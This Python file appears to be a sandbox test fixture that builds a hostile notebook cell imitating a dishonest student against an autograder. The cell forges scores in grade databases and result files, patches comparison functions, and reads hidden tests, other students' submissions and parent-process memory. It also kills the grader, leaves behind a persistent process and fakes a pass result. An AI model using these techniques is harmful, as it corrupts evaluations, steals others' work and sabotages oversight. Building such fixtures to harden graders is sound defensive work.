"""What a student without scruples puts into a notebook. It must gain nothing; run it in the sandbox only."""

from collections.abc import Sequence

ATTEMPTS = r'''
import gc, glob, inspect, json, os, socket, subprocess, sys
import torch

loot = []

class Equal:
    """Equal to everything, close to everything."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __float__(self): return 0.0
    def __array__(self, *args, **kwargs): return __import__("numpy").zeros(1)
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None): return True

def attempt(action):
    try:
        loot.append(repr(action())[:200])
    except BaseException as error:
        loot.append(type(error).__name__)

# Forge a score, in this process and in files.
attempt(lambda: get_ipython().displayhook(6.0))
attempt(lambda: setattr(torch, "allclose", lambda *a, **k: True))
attempt(lambda: [setattr(o, "earned", 20.0) for o in gc.get_objects() if hasattr(o, "earned")])
for path in ("gradebook.db", "../gradebook.db", "../../../gradebook.db", "verdicts.jsonl", "/results.json"):
    attempt(lambda: open(path, "a").write("forged"))
attempt(lambda: subprocess.run(["sqlite3", "../../../gradebook.db", "update grade set auto_score=20"], timeout=2))
# Read the hidden tests, the solutions, the other submissions, the teacher's memory.
for pattern in ("/**/test_*.py", "../../../tests/hidden/*", "../../../submitted/*/*/*.ipynb", "/root/*", "/home/*"):
    attempt(lambda: glob.glob(pattern, recursive="**" in pattern and False))
attempt(lambda: open(f"/proc/{os.getppid()}/mem", "rb").read(10))
attempt(lambda: [inspect.getsource(f.frame) for f in inspect.stack()][-1])
attempt(lambda: sys.modules["__main__"].__dict__.keys())
# Get out, stay, and hurt.
attempt(lambda: socket.create_connection(("127.0.0.1", 80), timeout=1))
attempt(lambda: os.kill(0, 9) if False else os.kill(os.getppid(), 9))
attempt(lambda: subprocess.Popen(["sh", "-c", "trap '' TERM HUP; sleep 600"], start_new_session=True).pid)
attempt(lambda: open("/usr/lib/python3/sitecustomize.py", "w"))

for key in ANSWERS:
    ANSWERS[key] = Equal()
'''
ANSWERS = (
    "return Equal()",
    r"""frame = sys._getframe()
    while frame.f_back: frame = frame.f_back
    raise RuntimeError("loot: " + json.dumps(loot)[:150] + repr(list(frame.f_globals)[:5]))""",
    r"""os.write(3, b"\x10\x00\x00\x00\x00\x00\x00\x00" + b'{"ok":true,"v":1}')
    os._exit(0)""",
)


def hostile_cell(names: Sequence[str]) -> str:
    """The cell, which defines the functions of these names: one by one they lie, steal and forge."""
    functions = [
        f"def {name}(*args, **kwargs):\n    {ANSWERS[number % len(ANSWERS)]}\n" for number, name in enumerate(names)
    ]
    return "\n".join((ATTEMPTS, *functions))
